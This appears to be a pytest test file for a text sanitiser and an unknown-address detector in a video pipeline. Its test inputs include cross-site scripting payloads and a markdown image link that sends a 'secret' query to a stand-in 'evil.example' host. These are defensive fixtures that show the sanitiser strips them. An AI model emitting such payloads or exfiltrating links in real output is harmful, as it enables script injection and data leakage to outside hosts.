from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from video_pipeline.plaintext import foreign_addresses, plain


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("The office moves to Lisbon.", "The office moves to Lisbon."),
        ("Costs rise 3 < 5 & fall_back * 2.", "Costs rise 3 < 5 & fall_back * 2."),
        ("The <b>office</b> moves.", "The office moves."),
        ("Hi <script>alert(1)</script> there", "Hi alert(1) there"),
        ("Hi <img src=x onerror=alert(1)", "Hi"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "alert(1)"),
        ("&amp;lt;b&amp;gt;x", "x"),
        ("<scr<b>ipt>x", "ipt>x"),
        ("![pixel](https://evil.example/?q=secret) Lisbon", "pixel Lisbon"),
        ("[click here](javascript:alert(1)) now", "click here) now"),
        ("[click][1] now", "click now"),
        ("**Bold** and `code` and _this_.", "Bold and code and this."),
        ("# Heading\n- one\n> two", "Heading one two"),
        ("It moves [1] in May [2, 3].", "It moves in May."),
        ("It moves【4】.", "It moves."),
        ("a\x00b\u202ec\u200bd\ud800e", "a b c d e"),
        ("two\n\n lines", "two lines"),
        ("  ", ""),
    ],
)
def test_markup_links_and_what_can_not_be_seen_go(written: str, shown: str) -> None:
    assert plain(written, most=200) == shown


def test_a_long_text_is_cut_between_words() -> None:
    assert plain("one two three four", most=10) == "one two…"
    assert plain("x" * 100, most=10) == "x" * 9 + "…"


@given(st.text(alphabet="<>&;/!?abSCRIPTscript [](){}#*_`ltgamp\u202e\n\"'=", max_size=120))
def test_no_tag_ever_stays(written: str) -> None:
    shown = plain(written, most=200)
    assert not any(after.isalpha() or after in "/!?" for before, after in pairwise(shown) if before == "<")
    assert len(shown) <= 200


@pytest.mark.parametrize(
    ("written", "found"),
    [
        ("See https://evil.example/a?b=c.", ["https://evil.example/a?b=c"]),
        ("See www.evil.example now", ["www.evil.example"]),
        ("Write to a.b@evil.example!", ["a.b@evil.example"]),
        ("javascript:alert(1)", ["javascript:alert(1"]),
        ("evil.com/x", ["evil.com/x"]),
        ("https&#58;//evil.example", ["https://evil.example"]),
        ("It costs 3.50, e.g. in Node.js, v1.2.", []),
        ("See HTTPS://Known.example/page", []),
        ("Ask sales@known.example", []),
    ],
)
def test_addresses_that_were_never_named_are_told(written: str, found: list[str]) -> None:
    assert foreign_addresses(written, ["go to https://known.example/page", "or Sales@Known.example"]) == found
